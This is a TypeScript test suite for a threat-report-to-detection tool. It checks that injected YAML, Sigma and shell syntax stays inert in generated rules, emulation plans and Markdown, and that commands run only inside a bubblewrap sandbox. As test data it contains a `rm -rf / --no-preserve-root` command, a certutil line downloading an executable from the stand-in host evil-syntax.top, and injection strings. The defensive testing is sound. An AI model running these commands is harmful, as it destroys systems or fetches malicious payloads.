/**
 * Report text that tries to become syntax: YAML (`\n- evil: x`, `!!js/function`,
 * anchors and aliases), Sigma (`|re`, `*`, condition words), shell (`;`,
 * `$(…)`, backticks, `rm -rf /`). In every output — Sigma YAML, Atomic YAML,
 * JSON, Markdown — it must come out as the same text, quoted and inert, and
 * nothing of it may run outside the sandbox.
 */
import assert from 'node:assert/strict';
import { existsSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { isAlias, parseDocument, visit, type Document } from 'yaml';
import { planMarkdown } from '../../src/cli/commands/generate.js';
import { UserError } from '../../src/common/errors.js';
import { AtomicLibrary } from '../../src/generate/atomic/load.js';
import { atomicFiles } from '../../src/generate/emulation/atomic-output.js';
import { executePlan, requireSandbox } from '../../src/generate/emulation/execute.js';
import { buildPlan } from '../../src/generate/emulation/plan.js';
import { BinaryCatalog } from '../../src/generate/knowledge/catalog.js';
import { runInSandbox } from '../../src/generate/sandbox/bwrap.js';
import { generateSigma } from '../../src/generate/sigma/generate.js';
import { summarizeGeneration } from '../../src/generate/sigma/summary.js';
import { compileRules, loadRuleText } from '../../src/sigma/index.js';
import { loadPipeline } from '../../src/sigma/pipeline/index.js';
import { hasSharedData, sharedData } from '../helpers.js';
import { compiled, fixture, sysmonProcess } from './helpers.js';

const MARKER = '/tmp/ttpscope-hostile-marker';
const doc = fixture('hostile-syntax');
const atomics = hasSharedData ? new AtomicLibrary(join(sharedData, 'atomic-red-team', 'atomics')) : undefined;

/** Every node of a YAML document is a plain map, sequence or scalar: no alias, anchor or explicit tag. */
function assertPlainYaml(d: Document, what: string): void {
  assert.deepEqual(d.errors, [], what);
  assert.deepEqual(d.warnings, [], what);
  visit(d, (_key, node) => {
    assert.ok(!isAlias(node), `${what}: an alias`);
    if (node && typeof node === 'object' && 'anchor' in node) assert.equal((node as { anchor?: string }).anchor, undefined, `${what}: an anchor`);
    if (node && typeof node === 'object' && 'tag' in node) {
      const tag = (node as { tag?: string }).tag;
      assert.ok(tag === undefined || tag.startsWith('tag:yaml.org,2002:'), `${what}: tag ${tag}`);
    }
  });
}

describe('hostile syntax in report text', () => {
  rmSync(MARKER, { force: true });
  const catalog = new BinaryCatalog();
  const gen = generateSigma(doc, { date: '2024-05-01', catalog });
  const parsed = gen.rules.map((r) => gen.checks.get(r.id)!.parsed!);
  const generatedRules = compileRules({ rules: parsed, correlations: [], filters: [], issues: [], files: parsed.length }, { pipeline: loadPipeline(['default']) });
  const plans = (['windows', 'linux'] as const).map((platform) => buildPlan(doc, { platform, catalog, generatedRules, ...(atomics ? { atomics } : {}) }));

  it('Sigma YAML: one rule per file, only our keys, no tags, anchors, modifiers or wildcards from the report', () => {
    assert.equal(gen.rejected.length, 0, JSON.stringify(gen.rejected.map((r) => r.check.errors)));
    assert.ok(gen.rules.length >= 4);
    const ourKeys = new Set(['title', 'id', 'related', 'status', 'description', 'references', 'author', 'date', 'tags', 'logsource', 'detection', 'falsepositives', 'level']);
    const ourModifiers = new Set(['contains', 'endswith', 'startswith', 'all', 'windash', 'wide', 'base64offset', 'cidr']);
    for (const r of gen.rules) {
      const d = parseDocument(r.yaml, { version: '1.1' });
      assertPlainYaml(d, r.fileName);
      const top = d.toJS() as Record<string, unknown>;
      for (const k of Object.keys(top)) assert.ok(ourKeys.has(k), `${r.fileName}: key ${k}`);
      assert.notEqual(top['level'], 'critical');
      assert.ok(!('evil' in top));
      const c = loadRuleText(r.yaml, r.fileName);
      assert.deepEqual(c.issues, []);
      assert.equal(c.rules.length, 1);
      const rule = c.rules[0]!;
      assert.deepEqual(Object.keys(rule.custom), []);
      assert.equal(rule.detection.conditionText.length, 1);
      assert.doesNotMatch(rule.detection.conditionText[0]!, /filter|them/);
      for (const s of rule.detection.searches.values()) {
        for (const alt of s.alternatives) {
          for (const item of alt) {
            for (const m of item.modifiers ?? []) assert.ok(ourModifiers.has(m), `${r.fileName}: modifier ${m}`);
            for (const v of item.values) if (v.type === 'string') assert.ok(v.parts.every((p) => p.kind === 'text'), `${r.fileName}: a wildcard`);
          }
        }
      }
    }
    // the report's URL with `|re` and `*` is one literal: it matches itself and not what a wildcard or regex would
    const ioc = gen.rules.find((r) => r.draft.pattern === 'ioc' && r.yaml.includes('evil-syntax.top/a|re&b=*'));
    assert.ok(ioc, 'an IOC rule with the literal URL');
    const set = compiled(ioc);
    const cl = (u: string) => `certutil.exe -urlcache -f "${u}" C:\\Users\\Public\\p.exe`;
    assert.ok(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', cl('http://evil-syntax.top/a|re&b=*'))).length > 0);
    // as a wildcard `*` would match this, as a regex `|re` would not need the pipe
    assert.equal(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', cl('http://evil-syntax.top/a|re&b=XYZ'))).length, 0);
    assert.equal(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', cl('http://evil-syntax.top/are&b=*'))).length, 0);
    // the description carries the injected text as text, on one line
    const withAction = gen.rules.find((r) => /evil: x/.test(r.yaml))!;
    assert.ok(withAction);
    assert.match(loadRuleText(withAction.yaml, 'x.yml').rules[0]!.description!, /ran - evil: x level: critical/);
  });

  it('JSON: the generation report and the plan carry the same strings back', () => {
    const summary = summarizeGeneration(doc, gen, undefined, []);
    assert.deepEqual(JSON.parse(JSON.stringify(summary)), summary);
    for (const plan of plans) {
      const back = JSON.parse(JSON.stringify(plan)) as typeof plan;
      assert.deepEqual(back, plan);
      const own = plan.steps.filter((s) => s.source === 'report');
      for (const s of own) assert.ok(doc.procedures.some((p) => p.commands.some((c) => c.text === s.command)), 'the report command verbatim');
    }
    assert.equal(plans[1]!.steps.find((s) => s.source === 'report')!.command, doc.procedures[2]!.commands[0]!.text);
  });

  it('Atomic YAML: validates, plain YAML, and every command reads back exactly', { skip: !atomics }, () => {
    for (const plan of plans) {
      const out = atomicFiles(plan, (t) => `Technique ${t}`);
      assert.deepEqual(out.problems, []);
      const tests = out.yaml.flatMap((y, i) => {
        const d = parseDocument(y, { version: '1.1' });
        assertPlainYaml(d, `atomic ${i}`);
        return (d.toJS() as { atomic_tests: Array<{ name: string; description: string; executor: { command: string } }> }).atomic_tests;
      });
      for (const s of plan.steps.filter((x) => x.source === 'report')) {
        const t = tests.find((x) => x.executor.command === s.template.command);
        assert.ok(t, `the report command survives: ${s.template.command}`);
        assert.doesNotMatch(t.name, /\n/);
      }
    }
  });

  it('Markdown: no injected list items, headings, HTML or fences', () => {
    for (const plan of plans) {
      const md = planMarkdown(plan, undefined, []);
      const lines = md.split('\n');
      assert.ok(!lines.some((l) => /^- evil: x/.test(l)), 'an injected list item');
      assert.ok(!lines.some((l) => /^level: critical/.test(l)));
      assert.ok(!lines.some((l) => /^#/.test(l) && /evil/.test(l) && !/^#+ (Emulation plan|Step \d+):/.test(l)));
      for (const s of plan.steps) {
        // the command sits in a fence longer than any backtick run inside it
        const at = md.indexOf(s.command);
        assert.ok(at > 0);
        const fence = /(`{3,})[a-z]*\n$/.exec(md.slice(Math.max(0, at - 40), at));
        assert.ok(fence, `a fence before ${s.command}`);
        const longest = Math.max(0, ...[...s.command.matchAll(/`+/g)].map((m) => m[0].length));
        assert.ok(fence[1]!.length > longest);
      }
    }
  });

  it('shell syntax from the report never reaches an Atomic command unquoted, and nothing ran', () => {
    for (const plan of plans) {
      for (const s of plan.steps) {
        if (s.source !== 'atomic') continue;
        for (const a of s.inputArguments) if (a.from === 'report') assert.doesNotMatch(a.value, /[`$;|&<>()\n]/, `${a.name} = ${a.value}`);
      }
    }
    // generation parsed every command (bash -n included) and executed none of them
    assert.equal(existsSync(MARKER), false);
  });

  it('the destructive report command is planned (it is the report\'s) but never runs outside the sandbox', async () => {
    const linux = plans[1]!;
    const step = linux.steps.find((s) => s.source === 'report')!;
    assert.match(step.command, /rm -rf \/ --no-preserve-root/);
    // without bubblewrap nothing runs: no fallback
    const none = await executePlan(linux, { bwrap: '/nonexistent/bwrap', timeoutMs: 5000 });
    assert.equal(none.attempted, 0);
    assert.ok(none.notAttempted.some((n) => n.step === step.step && /not installed: nothing is run/.test(n.reason)));
    const direct = await runInSandbox([{ name: 'c', shell: 'sh', script: `touch ${MARKER}` }], { bwrap: '/nonexistent/bwrap' });
    assert.equal(direct.status, 'unavailable');
    assert.throws(() => requireSandbox('/nonexistent/bwrap'), (e: unknown) => e instanceof UserError && /needs bubblewrap/.test(e.message));
    assert.throws(() => requireSandbox('bwrap'), UserError, 'a relative name is not looked up on PATH');
    assert.equal(existsSync(MARKER), false);
  });
});
